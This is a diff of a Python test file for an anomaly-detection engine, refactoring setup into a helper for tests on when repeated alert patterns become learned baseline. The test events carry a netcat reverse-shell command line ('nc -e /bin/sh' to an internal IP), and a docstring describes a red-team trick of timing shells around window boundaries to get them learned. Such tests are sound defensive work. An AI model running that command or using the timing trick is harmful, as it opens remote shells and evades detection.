@@ -85,11 +85,16 @@ def test_a_burst_of_one_attack_command_stays_an_alert(engine):
     assert "held back from learning" in " ".join(verdicts[-1].reasons)
 
 
-def test_alert_pattern_is_learned_only_after_recurring_in_distinct_windows(tmp_path):
-    config = EngineConfig(baselines=str(tmp_path), learning=LearningConfig(recurrence_windows=3,
-                                                                           recurrence_window=Duration("1h")))
-    engine = AnomalyEngine(config)
+def _web_engine_learning_hourly(tmp_path) -> AnomalyEngine:  # type: ignore[no-untyped-def]
+    """An engine with a web baseline that learns an alert-level pattern after three one-hour windows."""
+    engine = AnomalyEngine(EngineConfig(baselines=str(tmp_path), learning=LearningConfig(
+        recurrence_windows=3, recurrence_window=Duration("1h"))))
     engine.process(web_workload(300), workload="web")
+    return engine
+
+
+def test_alert_pattern_is_learned_only_after_recurring_in_distinct_windows(tmp_path):
+    engine = _web_engine_learning_hourly(tmp_path)
     backup = ProcessEvent(executable_name="sh", command_line="sh -c nc -e /bin/sh 10.0.0.5 9000",
                           parent_name="nginx", user_id=33)
     hours = [3_600.0 * h for h in (10, 11, 12)]
@@ -108,10 +113,7 @@ def test_alert_pattern_is_learned_only_after_recurring_in_distinct_windows(tmp_p
 def test_recurrence_windows_run_from_the_occurrences_not_from_the_clock(tmp_path):
     """Sent a second before, at, and a second after two hour boundaries, a reverse shell was three windows old in
     an hour and two seconds, and learned (s14 red team)."""
-    config = EngineConfig(baselines=str(tmp_path), learning=LearningConfig(recurrence_windows=3,
-                                                                           recurrence_window=Duration("1h")))
-    engine = AnomalyEngine(config)
-    engine.process(web_workload(300), workload="web")
+    engine = _web_engine_learning_hourly(tmp_path)
     shell = ProcessEvent(executable_name="sh", command_line="sh -c nc -e /bin/sh 10.0.0.5 9000",
                          parent_name="nginx", user_id=33)
     boundary = 3_600.0 * 20
